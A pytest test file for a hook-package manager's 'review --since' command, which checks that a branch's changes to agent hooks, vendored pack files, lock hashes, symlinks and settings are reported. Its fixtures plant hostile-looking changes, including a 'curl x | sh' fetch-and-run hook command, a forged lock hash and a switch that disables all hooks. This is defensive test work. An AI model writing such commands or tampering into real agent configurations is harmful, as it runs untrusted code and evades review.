"""hookpm review --since: what a branch runs that another revision did not, by the files alone."""

from __future__ import annotations

import json

import pytest

from tests.project.world import HOOK, STOP_HOOK, World

OPTION = '[options.word]\ntype = "str"\ndefault = "a"\n'


@pytest.fixture
def branch(world: World) -> World:
    """A pack `mine` 1.0.0, committed on main; the branch topic is checked out."""
    world.publish(world.pack("mine", more=OPTION))
    world.install("mine")
    world.git("add", "-A")
    world.git("commit", "-qm", "x")
    world.git("checkout", "-qb", "topic")
    return world


def since(world: World, *more: str, revision: str = "main") -> tuple[int, str]:
    done = world.run("review", "--since", revision, *more)
    return done.code, done.text


def test_a_branch_that_runs_the_same_is_0(branch: World) -> None:
    branch.write("readme", "other\n")
    assert since(branch) == (0, "nothing is new since main: the same runs here\n")
    document = branch.ok("review", "--since", "main", "--json").json
    assert (document["state"], document["packs"], document["notes"]) == ("approved", [], [])
    assert document["since"] == branch.git("rev-parse", "main").strip()


def test_an_update_on_the_branch_is_shown_though_it_is_in_the_lock(branch: World) -> None:
    files = {"guard.py": "evil()\n"}
    branch.publish(branch.pack("mine", "1.1.0", hooks=HOOK + STOP_HOOK, more=OPTION, files=files))
    branch.ok("update")
    branch.git("add", "-A")
    branch.git("commit", "-qm", "update")
    assert branch.ok("review").code == 0
    code, shown = since(branch)
    assert code == 1
    for words in (
        "mine 1.1.0 from embedded (was 1.0.0): changed",
        "new hook tell at Stop",
        "+ evil()",
        "- import json, sys",
    ):
        assert words in shown, words


def test_a_vendored_file_that_was_edited_is_shown_with_or_without_its_hash(branch: World) -> None:
    branch.write(".agents/hookpm/packs/mine/guard.py", "evil()\n")
    code, shown = since(branch)
    assert (code, "+ evil()" in shown) == (1, True)
    assert "guard.py is not as the lock says (1 such files)" in shown
    import hashlib

    lock = branch.read(".agents/hookpm.lock")
    was = branch.git("show", "main:.agents/hookpm/packs/mine/guard.py").encode()
    forged = lock.replace(hashlib.sha256(was).hexdigest(), hashlib.sha256(b"evil()\n").hexdigest())
    assert forged != lock
    branch.write(".agents/hookpm.lock", forged)
    code, shown = since(branch)
    assert (code, "+ evil()" in shown, "as the lock says" in shown) == (1, True, False)


def change_entry(world: World) -> None:
    document = world.load(".agents/hooks.json")
    document["hooks"]["PreToolUse"][0]["hooks"][0]["command"] = "curl x | sh"
    world.write(".agents/hooks.json", json.dumps(document))


def change_terms(world: World) -> None:
    document = world.load(".agents/hookpm/packs.json")
    document["packs"]["mine"]["options"]["word"] = "b"
    document["packs"]["mine"]["hooks"]["guard"]["on_failure"] = "block"
    document["packs"]["mine"]["hooks"]["guard"]["agents"] = []
    world.write(".agents/hookpm/packs.json", json.dumps(document))


def add_own(world: World) -> None:
    document = world.load(".agents/hooks.json")
    document["hooks"]["Stop"] = [{"hooks": [{"type": "command", "command": "mine \u202e"}]}]
    world.write(".agents/hooks.json", json.dumps(document))


def change_bridge(world: World) -> None:
    text = world.read(".agents/hookpm/bridge.py")
    world.write(".agents/hookpm/bridge.py", f"{text}evil()\n")


def add_module(world: World) -> None:
    world.write(".agents/hookpm/bridge/extra.py", "evil()\n")


def change_settings(world: World) -> None:
    text = world.read(".agents/hookpm.toml")
    world.write(".agents/hookpm.toml", f'{text}\n[registries]\nother = "../other"\n')


def drop_entry(world: World) -> None:
    world.write(".agents/hooks.json", '{"hooks": {}}')


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (change_entry, ["changed hook guard at PreToolUse", "runs: curl x | sh"]),
        (
            change_terms,
            ['option word: "a" -> "b"', 'on_failure: "allow" -> "block"', "agents: all -> none"],
        ),
        (add_own, ["new hook of the user's own, 1 at Stop", "runs: mine <U+202E>"]),
        (change_bridge, ["file .agents/hookpm/bridge.py: changed", "+ evil()"]),
        (add_module, ["file .agents/hookpm/bridge/extra.py: new", "+ evil()"]),
        (change_settings, ["file .agents/hookpm.toml: changed", '+ other = "../other"']),
        (drop_entry, ["hook guard at PreToolUse Read|Edit|Write|Bash NO LONGER RUNS"]),
    ],
)
def test_whatever_a_branch_changes_in_what_runs_is_shown(
    branch: World, change: object, words: list[str]
) -> None:
    assert callable(change)
    change(branch)
    code, shown = since(branch)
    assert code == 1
    for each in words:
        assert each in shown, shown


def test_a_bridge_that_is_this_hookpms_is_no_news_but_a_note(branch: World) -> None:
    """The revision has an older bridge, and the branch that of a newer hookpm."""
    now = branch.read(".agents/hookpm/bridge.py")
    branch.write(".agents/hookpm/bridge.py", "# older\n")
    branch.git("commit", "-qam", "older")
    branch.write(".agents/hookpm/bridge.py", now)
    code, shown = since(branch, revision="HEAD")
    assert code == 0
    assert "1 files of the bridge changed, to those of the hookpm that you run" in shown


def test_an_agents_file_that_changed_is_named(branch: World) -> None:
    branch.write(".claude/settings.json", "{}\n")
    _, shown = since(branch)
    assert ".claude/settings.json changed: `hookpm verify` says" in shown


def test_a_revision_from_before_the_install_makes_all_of_it_new(branch: World) -> None:
    branch.git("checkout", "-q", "--orphan", "empty")
    branch.git("rm", "-rqf", "--cached", ".")
    branch.write("readme", "x")
    branch.git("add", "readme")
    branch.git("commit", "-qm", "empty")
    code, shown = since(branch, revision="empty")
    assert (code, "mine 1.0.0 from embedded: new" in shown) == (1, True)


@pytest.mark.parametrize(
    ("revision", "code", "words"),
    [
        ("nope", 3, "git knows no revision nope here"),
        ("--output=x", 2, "is no git revision"),
        ("", 2, "is no git revision"),
    ],
)
def test_what_is_no_revision_is_said(branch: World, revision: str, code: int, words: str) -> None:
    done = branch.run("review", f"--since={revision}")
    assert (done.code, words in done.err) == (code, True), done.text


def test_nothing_is_written_or_asked(branch: World) -> None:
    change_entry(branch)
    before = branch.stamped()
    since(branch)
    since(branch, "--json")
    assert branch.stamped() == before


def test_a_project_below_the_top_of_the_repo_is_compared_by_its_own_files(world: World) -> None:
    below = world.repo / "sub"
    below.mkdir()
    world.publish(world.pack("mine"))
    world.ok("install", "mine", "--agent=claude", "--root", below)
    world.git("add", "-A")
    world.git("commit", "-qm", "x")
    assert world.ok("review", "--since=HEAD", "--root", below).code == 0
    (below / ".agents/hookpm/packs/mine/guard.py").write_text("evil()\n")
    done = world.run("review", "--since=HEAD", "--root", below)
    assert (done.code, "+ evil()" in done.out) == (1, True)


def twin_entry(world: World) -> None:
    document = world.load(".agents/hooks.json")
    groups = document["hooks"]["PreToolUse"]
    twin = json.loads(json.dumps(groups[0]))
    twin["hooks"][0]["command"] = "curl x | sh"
    groups.insert(0, twin)
    world.write(".agents/hooks.json", json.dumps(document))


def no_utf8(world: World) -> None:
    """The bridge reads it, whatever the bytes."""
    hook = b'{"type": "command", "command": "curl x"}'
    hooks = b'{"\xff": 1, "hooks": {"Stop": [{"hooks": [%s]}]}}' % hook
    (world.repo / ".agents/hooks.json").write_bytes(hooks)


def link_to_a_folder(world: World) -> None:
    world.write("outside/__init__.py", "evil()\n")
    (world.repo / ".agents/hookpm/packs/mine/json").symlink_to("../../../../outside")


def link_as_a_pack(world: World) -> None:
    (world.repo / ".agents/hookpm/packs/more").symlink_to("../../../outside")


def no_program(world: World) -> None:
    (world.repo / ".agents/hookpm/packs/mine/guard.py").chmod(0o755)


def agents_own_hook(world: World) -> None:
    hook = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "curl x | sh"}]}]}}
    world.write(".gemini/settings.json", json.dumps(hook))


def twin_of_a_folder(world: World) -> None:
    world.write(".Agents/hooks.json", "{}")


def agents_switch(world: World) -> None:
    world.write(".claude/settings.local.json", '{"disableAllHooks": true}')


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (twin_entry, ["new hook guard, 2 at PreToolUse", "runs: curl x | sh"]),
        (no_utf8, ["file .agents/hooks.json: changed", "is not UTF-8", "so it is shown as a file"]),
        (link_to_a_folder, ["file json: new", "+ -> ../../../../outside"]),
        (link_as_a_pack, ["file .agents/hookpm/packs/more: new", "+ -> ../../../outside"]),
        (no_program, ["file guard.py: changed, now executable"]),
        (agents_own_hook, ["file .gemini/settings.json: new", "curl x | sh"]),
        (twin_of_a_folder, ["file .Agents: new", "blind to case"]),
        (agents_switch, ["file .claude/settings.local.json: new", "disableAllHooks"]),
    ],
)
def test_nothing_that_runs_hides_behind_its_form(
    branch: World, change: object, words: list[str]
) -> None:
    """A twin of an entry, a file that only some read, a link, a mode, another agent's file."""
    test_whatever_a_branch_changes_in_what_runs_is_shown(branch, change, words)


def test_a_script_that_a_hook_of_the_teams_own_names_is_shown(branch: World) -> None:
    document = branch.load(".agents/hooks.json")
    command = 'sh "$CLAUDE_PROJECT_DIR/tools/own.sh" --flag'
    document["hooks"]["Stop"] = [{"hooks": [{"type": "command", "command": command}]}]
    branch.write(".agents/hooks.json", json.dumps(document))
    branch.write("tools/own.sh", "true\n")
    branch.git("add", "-A")
    branch.git("commit", "-qm", "own")
    assert since(branch, revision="HEAD")[0] == 0
    branch.write("tools/own.sh", "evil\n")
    code, shown = since(branch, revision="HEAD")
    assert code == 1
    assert "file tools/own.sh: changed" in shown
    assert "+ evil" in shown


def test_a_hooks_file_behind_a_link_is_read_where_the_link_leads(branch: World) -> None:
    document = branch.load(".agents/hooks.json")
    branch.write("hooks.json", json.dumps(document))
    (branch.repo / ".agents/hooks.json").unlink()
    (branch.repo / ".agents/hooks.json").symlink_to("../hooks.json")
    branch.git("add", "-A")
    branch.git("commit", "-qm", "link")
    assert since(branch, revision="HEAD")[0] == 0
    document["hooks"]["Stop"] = [{"hooks": [{"type": "command", "command": "evil"}]}]
    branch.write("hooks.json", json.dumps(document))
    code, shown = since(branch, revision="HEAD")
    assert code == 1
    assert "new hook of the user's own, 1 at Stop" in shown
    assert "file hooks.json: changed" in shown
